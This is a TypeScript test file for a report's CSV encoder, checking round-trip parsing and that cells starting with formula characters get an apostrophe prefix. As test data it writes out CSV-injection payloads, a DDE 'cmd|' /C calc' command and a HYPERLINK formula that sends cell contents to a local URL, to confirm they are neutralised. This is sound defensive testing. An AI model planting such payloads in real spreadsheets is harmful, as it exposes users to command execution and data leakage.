// The copy's encoders: CSV that any RFC 4180 reader parses back to the same values, HTML escaping,
// and the Stockholm date-time and amount formats of the readable report.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { BOM, csvField, csvLine, parseCsv } from "./formats";

describe("CSV", () => {
  it("round-trips any text (quotes, commas, line breaks, unicode), formula-like text behind an apostrophe", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 1, maxLength: 6 }), {
          minLength: 1,
          maxLength: 5,
        }),
        (rows) => {
          const width = rows[0]!.length;
          const table = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ""));
          const text = BOM + table.map((r) => csvLine(r)).join("");
          const parsed = parseCsv(text);
          const expected = table.map((r) => r.map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)));
          expect(parsed).toEqual(expected);
        },
      ),
      { numRuns: 300 },
    );
  });

  // OWASP's rule: a spreadsheet runs a cell that starts with =, +, -, @, tab or CR. Before, + or -
  // followed by a digit passed: -1+HYPERLINK(…) and -2+3+cmd|' /C calc'!A0 arrived as formulas.
  it("no text cell reaches a spreadsheet starting with a formula character; numbers stay numbers", () => {
    const start = fc.constantFrom("=", "+", "-", "@", "\t", "\r");
    fc.assert(
      fc.property(
        fc.oneof(
          fc.tuple(start, fc.string({ unit: "grapheme" })).map(([a, b]) => a + b),
          fc.tuple(start, fc.integer(), fc.constantFrom("+", "-", "*"), fc.string()).map((p) => p.join("")),
          fc.string({ unit: "grapheme" }),
        ),
        (value) => {
          const cell = parseCsv(BOM + csvLine([value]))[0]?.[0];
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          expect(cell).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
        },
      ),
      { numRuns: 500 },
    );
    fc.assert(
      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), (n) => {
        expect(csvField(n)).toBe(String(n));
      }),
    );
    expect(csvField(`-1+HYPERLINK("http://127.0.0.1:3499/?"&A1,"x")`)).toBe(
      `"'-1+HYPERLINK(""http://127.0.0.1:3499/?""&A1,""x"")"`,
    );
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvField("-1+2")).toBe("'-1+2");
    expect(csvField("+46701740605")).toBe("'+46701740605");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField(-5)).toBe("-5");
    expect(csvField("Anna")).toBe("Anna");
  });

  it("quotes what needs quoting and neutralises spreadsheet formulas", () => {
    expect(csvField('say "hi", ok')).toBe('"say ""hi"", ok"');
    expect(csvField("two\r\nlines")).toBe('"two\r\nlines"');
    expect(csvField('=HYPERLINK("http://x")')).toBe('"\'=HYPERLINK(""http://x"")"');
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField(null)).toBe("");
    expect(csvField({ a: 1 })).toBe('"{""a"":1}"');
    expect(csvLine(["a", 1, true, null])).toBe("a,1,true,\r\n");
  });
});
